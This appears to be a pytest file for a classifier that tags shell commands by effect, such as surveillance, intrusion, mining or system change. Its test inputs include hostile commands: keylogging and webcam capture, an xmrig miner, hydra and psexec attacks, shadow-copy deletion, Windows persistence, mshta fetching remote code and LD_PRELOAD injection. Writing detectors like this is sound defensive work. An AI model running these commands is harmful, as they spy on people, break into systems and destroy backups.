"""Programs that watch, break in, mine or change Windows, and what is taken from everybody else."""

from __future__ import annotations

import importlib.util
from pathlib import Path

import pytest

_spec = importlib.util.spec_from_file_location("effects_playing", Path(__file__).with_name("playing.py"))
playing = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(playing)


def deployed(text: str) -> list[str]:
    return [effect.value for effect in playing.shell(text) if effect.verb == "deploy"]


@pytest.mark.parametrize(
    ("text", "device"),
    [
        ("xwd -root -out /tmp/a.xwd", "/dev/fb0"),
        ("scrot a.png", "/dev/fb0"),
        ("logkeys --start --output a.log", "/dev/input"),
        ("arecord -d 10 a.wav", "/dev/snd"),
        ("fswebcam a.jpg", "/dev/video0"),
        ("sudo tcpdump -i any -w a.pcap", "/dev/bpf"),
    ],
)
def test_what_watches_a_person_reads_the_device_that_it_watches(text, device):
    assert f"read {device}" in [line.removesuffix(" +elevated") for line in playing.lines(text)]


@pytest.mark.parametrize("text", ["tshark -n -r a.pcap -q -z io,phs", "tcpdump -nr a.pcap", "arecord -l --version"])
def test_a_recording_that_is_only_read_watches_nobody(text):
    assert not any(line.startswith("read /dev/") for line in playing.lines(text) if "arecord" not in text)


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("nohup /opt/xmrig --help", "attack:xmrig"),
        ("docker run --rm registry.example/tools/xmrig:latest", "attack:xmrig"),
        ("psexec.py admin@10.0.0.1 whoami", "attack:psexec.py"),
        ("hydra -l root -P words ssh://10.0.0.1", "attack:hydra"),
        ("auditctl -a always,exit -S execve", "auditctl:-a"),
        ("echo block | pfctl -f -", "pfctl:-f"),
        ("setenforce 0", "setenforce:0"),
        ("systemd-run --user --on-calendar '*:0/1' sh -c 'date >> log'", "schedule:systemd-run"),
        ("apt-get purge -y nginx", "apt:remove"),
        ("dpkg -r nginx", "apt:remove"),
        ("brew uninstall node", "brew:remove"),
        ("pacman -Rns vim", "dnf:remove"),
        ("npm unpublish pkg@1.0.0 --force", "npm:unpublish"),
        ("cargo yank --version 1.0.0", "cargo:yank"),
        ("schtasks /Create /SC ONLOGON /TN x /TR a.exe", "windows:schtasks-create"),
        ("reg.exe add 'HKCU\\Software\\x' /v a /d b", "windows:reg-add"),
        ("net user guest secretword /add", "windows:net-user"),
        ("vssadmin delete shadows /all /quiet", "windows:vssadmin-delete"),
        ("sc create svc binPath= a.exe", "windows:sc-create"),
    ],
)
def test_what_breaks_in_or_takes_from_others_is_a_deployment(text, what):
    assert what in deployed(text)


@pytest.mark.parametrize(
    "text",
    [
        "docker run --rm registry.example/tools/xmrig-exporter:1",
        "swapon --show",
        "firewall-cmd --list-all",
        "zfs list",
        "auditctl -l",
        "dpkg -l nginx",
        "apt list --installed",
        "npm view react versions",
        "schtasks /query /fo LIST",
        "reg query HKLM",
        "net view",
        "systemctl is-system-running",
        "chage -l dev",
        "terragrunt hclfmt --terragrunt-check",
        "kubectl apply --dry-run=client -f k8s/",
        "aws --endpoint-url=http://localhost:4566 sqs create-queue --queue-name orders",
        "time (make build > /dev/null 2>&1)",
    ],
)
def test_looking_at_the_same_things_changes_nothing(text):
    effects = playing.shell(text)
    assert [effect.value for effect in effects if effect.verb in {"deploy", "unparsed"}] == []
    assert not any(effect.verb == "write" and effect.value.startswith("/etc") for effect in effects)


def test_code_that_goes_to_a_loader_of_windows_is_not_seen():
    assert "unparsed" in {effect.verb for effect in playing.shell("mshta.exe http://files.example/a.hta")}


def test_a_directorys_client_reaches_its_host():
    assert "connect dir.example:389" in playing.lines("ldapsearch -H ldap://dir.example:389 -x -b dc=x")


@pytest.mark.parametrize("text", ["unset -f HISTFILE", "unset --other HISTFILE"])
def test_unsetting_a_function_hides_nothing(text):
    assert not any(line.startswith("write") for line in playing.lines(text))


@pytest.mark.parametrize(
    "text",
    [
        "LD_PRELOAD=/tmp/x.so ls",
        "LD_PRELOAD=./x.so:/usr/lib/libc.so make",
        "export LD_PRELOAD=$PWD/x.so; ls",
        "env LD_PRELOAD=/tmp/x.so ls",
        "LD_AUDIT=/tmp/a.so id",
        "LD_PRELOAD=/usr/lib/../../tmp/x.so ls",
        "sudo env DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls",
    ],
)
def test_a_library_of_ones_own_in_every_program_is_a_way_round(text):
    assert any("shell-escape" in effect.flags for effect in playing.shell(text))


@pytest.mark.parametrize(
    "text",
    [
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server",
        "LD_PRELOAD= ls",
        "env LD_PRELOAD=libasan.so ./t",
    ],
)
def test_a_library_of_the_hosts_own_is_an_ordinary_thing(text):
    assert not any("shell-escape" in effect.flags for effect in playing.shell(text))
